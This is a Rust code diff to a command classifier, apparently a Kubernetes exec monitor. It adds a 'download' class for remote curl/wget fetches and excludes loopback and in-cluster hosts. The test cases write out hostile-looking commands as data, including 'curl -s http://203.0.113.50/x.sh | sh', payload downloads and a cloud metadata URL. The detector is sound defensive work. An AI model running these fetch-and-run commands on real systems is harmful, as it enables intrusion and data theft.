@@ -9,6 +9,10 @@ pub enum ExecClass {
     ReverseShell,
     /// Fetch a script or binary and run it (`curl … | sh`, `wget -O- … | bash`).
     DownloadAndRun,
+    /// Fetch from a remote host without running what came (`curl -o /tmp/x http://…`,
+    /// `wget https://…`): tools brought in, or data sent out. Not from loopback or
+    /// in-cluster names (health checks), not the metadata service (its own class).
+    Download,
     /// Reading service-account tokens, kubelet or cloud credentials, SSH keys, shadow.
     CredentialRead,
     /// Talking to the cloud instance metadata service.
@@ -27,6 +31,7 @@ impl ExecClass {
             ExecClass::InteractiveShell => "interactive-shell",
             ExecClass::ReverseShell => "reverse-shell",
             ExecClass::DownloadAndRun => "download-and-run",
+            ExecClass::Download => "download",
             ExecClass::CredentialRead => "credential-read",
             ExecClass::CloudMetadata => "cloud-metadata",
             ExecClass::TarCopy => "tar-copy",
@@ -83,13 +88,16 @@ pub fn classify(argv: &[String], stdin: bool, tty: bool) -> Vec<ExecClass> {
     if is_reverse_shell(&lower) {
         out.push(ExecClass::ReverseShell);
     }
+    let metadata = METADATA_HOSTS.iter().any(|h| lower.contains(h));
     if is_download_and_run(&lower) {
         out.push(ExecClass::DownloadAndRun);
+    } else if !metadata && is_download(&lower) {
+        out.push(ExecClass::Download);
     }
     if CREDENTIAL_PATHS.iter().any(|p| lower.contains(p)) || reads_process_environ(&lower) {
         out.push(ExecClass::CredentialRead);
     }
-    if METADATA_HOSTS.iter().any(|h| lower.contains(h)) {
+    if metadata {
         out.push(ExecClass::CloudMetadata);
     }
     if is_tar_copy(argv) {
@@ -194,6 +202,44 @@ fn is_download_and_run(lower: &str) -> bool {
         || lower.contains("| iex")
         || lower.contains("exec(");
     pipes_to_shell || substituted || runs_file
+}
+
+/// A fetching tool (`curl`, `wget`, PowerShell's `iwr`) given the URL of a remote host.
+fn is_download(lower: &str) -> bool {
+    const FETCHERS: &[&str] = &["curl", "wget", "invoke-webrequest", "iwr"];
+    words(lower).any(|w| FETCHERS.contains(&w))
+        && lower
+            .split(|c: char| c.is_whitespace() || "'\"`()".contains(c))
+            .filter_map(|tok| tok.split_once("://"))
+            .any(|(_, rest)| !is_local_host(rest))
+}
+
+/// Whether the authority of a URL (`host[:port]/path` after `://`, lower-cased) is this
+/// pod or the cluster: loopback, or a cluster-internal DNS name.
+#[expect(
+    clippy::case_sensitive_file_extension_comparisons,
+    reason = "a host name, not a file name, and the command line is lower-cased already"
+)]
+fn is_local_host(rest: &str) -> bool {
+    let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
+    let host = authority.rsplit('@').next().unwrap_or_default();
+    let host = if host.starts_with('[') {
+        host.split(']')
+            .next()
+            .unwrap_or_default()
+            .trim_start_matches('[')
+    } else {
+        host.split(':').next().unwrap_or_default()
+    };
+    host.is_empty()
+        || host == "localhost"
+        || host == "::1"
+        || host == "0.0.0.0"
+        || host.starts_with("127.")
+        || host.ends_with(".svc")
+        || host.contains(".svc.")
+        || host.ends_with(".cluster.local")
+        || !host.contains(['.', ':'])
 }
 
 /// `tar` reading or writing its archive on stdin/stdout (`tar cf - …`, `tar xmf - -C …`):
@@ -344,6 +390,34 @@ mod tests {
         assert!(!c(&["echo", "bash -i is a flag"]).contains(&"reverse-shell"));
         let db_check = "import socket; socket.create_connection((\"db\", 5432), timeout=2)";
         assert!(!c(&["python3", "-c", db_check]).contains(&"reverse-shell"));
+    }
+
+    #[test]
+    fn download_without_running_it() {
+        for argv in [
+            &["curl", "-sLo", "/tmp/k", "https://dl.example.net/kubectl"][..],
+            &["wget", "http://203.0.113.50/x.tar.gz"],
+            &[
+                "sh",
+                "-c",
+                "curl -s -o /tmp/p.py http://user@[2001:db8::1]:8080/p.py",
+            ],
+        ] {
+            let classes = c(argv);
+            assert!(classes.contains(&"download"), "{argv:?}: {classes:?}");
+            assert!(!classes.contains(&"download-and-run"), "{argv:?}");
+        }
+        for argv in [
+            &["curl", "-s", "http://localhost:8080/healthz"][..],
+            &["curl", "http://127.0.0.1:9090/metrics"],
+            &["wget", "-qO-", "http://api.shop.svc.cluster.local/ready"],
+            &["curl", "http://web:8080/"],
+            &["curl", "http://169.254.169.254/latest/meta-data/"],
+            &["sh", "-c", "curl -s http://203.0.113.50/x.sh | sh"],
+            &["cat", "https://example.com/notes.txt"],
+        ] {
+            assert!(!c(argv).contains(&"download"), "{argv:?}: {:?}", c(argv));
+        }
     }
 
     #[test]
